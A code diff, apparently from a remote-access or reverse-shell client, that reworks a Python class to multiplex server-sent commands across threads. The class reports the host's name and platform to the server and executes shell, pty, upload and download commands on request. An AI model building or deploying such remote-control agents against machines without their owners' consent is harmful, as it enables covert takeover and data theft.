@@ -1,39 +1,77 @@
 #!/usr/bin/env python3
 
 
+import json
 import socket
-import struct
 import platform
+from concurrent.futures import ThreadPoolExecutor
 from exception import ServerDisconnectedError
+from identity import load_client_id
 from command import Command
+from multiplex import Multiplexer, Stream
+from profiler import Profiler
+from protocol import Frame, FrameType
+from shell import Shell
 
 
 class Interaction:
-    def __init__(self, sock: socket.socket) -> None:
+    def __init__(self, sock: socket.socket, workers: int = 16) -> None:
         self._sock = sock 
+        self._multiplexer = Multiplexer(sock, self._start_command, self._control)
+        self._executor = ThreadPoolExecutor(max_workers=workers, thread_name_prefix="command")
         self._system = f"{platform.system()} {platform.release()}"
+        self._client_id = load_client_id()
+        self._shell: (Shell | None) = None
+        self._retry_hint: (bytes | None) = None
+        self._profiler = Profiler()
     
     @property
-    def sock(self):
+    def sock(self) -> socket.socket:
         return self._sock
+    
+    @property
+    def retry_hint(self) -> (bytes | None):
+        return self._retry_hint
+    
+    @property
+    def profiler(self) -> Profiler:
+        return self._profiler
+    
+    @property
+    def shell(self) -> (Shell | None):
+        return self._shell
+    
+    @shell.setter
+    def shell(self, shell: (Shell | None)) -> None:
+        self._shell = shell
+    
+    def close_shell(self) -> None:
+        if self._shell is not None:
+            self._shell.close()
+            self._shell = None
         
-    def _create_packet(self, result: bytes) -> bytes:
-        result_length = len(result)
-        size = struct.pack("<l", result_length)
-        packet = size + result
+    def _create_packet(self, channel: Stream, result: bytes) -> bytes:
+        packet = channel.pack(FrameType.OUTPUT, result)
         return packet
     
-    def _send_packet(self, packet: bytes) -> None:
-        self._sock.sendall(packet)
+    def _send_packet(self, channel: Stream, packet: bytes) -> None:
+        channel.sendall(packet)
       
-    def _get_command(self) -> str:
-        command_length = struct.unpack("<L", self._sock.recv(4))[0]
-        command = self._sock.recv(command_length)
-        return command.decode("utf-8")
+    def _control(self, frame: Frame) -> None:
+        if frame.type == FrameType.RETRY:
+            self._retry_hint = bytes(frame.payload)
+    
+    def _hello(self) -> None:
+        hello = {"id": self._client_id, "hostname": socket.gethostname(), "platform": self._system}
+        self._multiplexer.send_frame(FrameType.HELLO, json.dumps(hello).encode("utf-8"), 0)
     
-    def _handle_command(self, received: str) -> bytes:
+    def _receive(self) -> None:
+        if not self._multiplexer.receive():
+            raise ServerDisconnectedError("The server has disconnected !")
+    
+    def _handle_command(self, received: str, channel: Stream) -> bytes:
         output = b"Exit code 1."
-        command = Command(received, self)
+        command = Command(received, self, channel)
         cli = command.get_cli()
         
         match cli:
@@ -41,6 +79,18 @@ class Interaction:
             case "cd":
                 output = command.chdir()
             
+            case "profile":
+                try:
+                    output = command.profile()
+                except Exception as ex:
+                    output = f"Unable to profile due to -> {ex}".encode("utf-8")
+            
+            case "pty":
+                try:
+                    output = command.pty()
+                except Exception as ex:
+                    output = f"Unable to switch the pty shell due to -> {ex}".encode("utf-8")
+            
             case "upload":
                 try:
                     output = command.download()
@@ -68,15 +118,33 @@ class Interaction:
                 output = command.execute() 
         return output
         
+    def _run_command(self, channel: Stream, received: str) -> None:
+        try:
+            if received.split(maxsplit=1)[:1] == ["profile"]:
+                output = self._handle_command(received, channel)
+            else:
+                output = self._profiler.run(self._handle_command, received, channel)
+            packet = self._create_packet(channel, output)
+            self._send_packet(channel, packet)
+        except Exception as ex:
+            pass
+        finally:
+            self._multiplexer.close_stream(channel)
+    
+    def _start_command(self, channel: Stream, frame: Frame) -> None:
+        received = frame.payload.decode("utf-8")
+        if received == "quit":
+            self._sock.shutdown(socket.SHUT_RDWR)
+            return
+        self._executor.submit(self._run_command, channel, received)
+        
     def interact(self) -> None:
-        while True:
-            received = self._get_command()
-            if received == "quit":
-                self._sock.close()
-                raise ServerDisconnectedError("The server has disconnected !")
-            output = self._handle_command(received)
-            packet = self._create_packet(output)
-            try:
-                self._send_packet(packet)
-            except Exception as ex:
-                pass
\ No newline at end of file
+        try:
+            self._hello()
+            while True:
+                self._receive()
+        finally:
+            self._multiplexer.close()
+            self._sock.close()
+            self.close_shell()
+            self._executor.shutdown(wait=False, cancel_futures=True)